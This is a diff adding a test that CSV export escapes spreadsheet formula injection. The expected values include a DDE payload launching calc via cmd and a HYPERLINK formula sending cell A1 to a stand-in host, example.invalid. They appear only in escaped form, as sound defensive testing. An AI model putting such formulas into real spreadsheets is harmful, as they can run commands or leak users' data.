@@ -7,9 +7,12 @@ import csv
 import io
 import json
 
+from hostile_journey import HOSTILE_JOURNEY
+
 from indexer.engine import JourneyEngine
 from indexer.journey_csv import FIXED_COLUMNS, journey_csv
 from indexer.records import Journey, Token
+from journeys import load_journey
 from test_cli import run_cli
 
 TEXT = 'Time flies like an arrow, said "the" fly.'
@@ -88,3 +91,37 @@ def test_analyze_csv_prints_the_csv_of_the_journey(tiny_model_folders):
 def test_csv_and_json_together_are_refused(tiny_model_folders):
     result = run_cli("analyze", "--model", str(tiny_model_folders["bert"]), "--text", "x", "--csv", "--json")
     assert result.returncode == 2 and "not allowed with" in result.stderr
+
+
+def test_cells_a_spreadsheet_would_run_are_written_as_text_and_numbers_stay_numbers(tmp_path):
+    path = tmp_path / "hostile.json"
+    path.write_text(json.dumps(HOSTILE_JOURNEY), encoding="utf-8")
+    text = journey_csv(load_journey(path))
+    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    assert [row[5] for row in rows] == [
+        "'=cmd|' /C calc'!A0",
+        "'+1",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\t=1",
+        "'\r=1",
+        "plain",
+    ]
+    assert {row[0] for row in rows} == {"'" + HOSTILE_JOURNEY["model"]["name"]}
+    assert [row[8] for row in rows] == ["-0.5", "0.25", "1.0", "-1e-05", "0.0", "-0.0", "0.5"]
+    assert {(row[10], row[11]) for row in rows} == {("'-", "-0.125")}
+    assert '"\'=HYPERLINK(""http://example.invalid/?x=""&A1,""click"")"' in text
+    cells = [cell for row in rows for cell in row]
+    assert not [
+        cell
+        for cell in cells
+        if cell.startswith(("=", "+", "@", "\t", "\r")) or (cell[:1] == "-" and not is_number(cell))
+    ]
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
